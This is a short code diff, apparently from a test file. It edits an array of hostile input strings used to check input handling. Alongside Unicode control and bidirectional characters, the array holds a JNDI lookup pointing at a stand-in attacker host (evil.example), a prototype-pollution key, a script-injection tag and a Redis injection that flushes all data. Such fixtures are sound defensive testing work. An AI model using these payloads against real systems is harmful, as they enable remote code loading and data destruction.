@@ -11,7 +11,7 @@ const hostile = [
   "\u0000\u0008\u007f",
   "\u2028\u2029\u0085",
   "\u202edrow\u2066\u200f\ufeff",
-  "${jndi:ldap://evil.example}",
+  `\${jndi:ldap://evil.example}`,
   "__proto__",
   "<script>alert(1)</script>",
   "'); redis.call('FLUSHALL'); --",
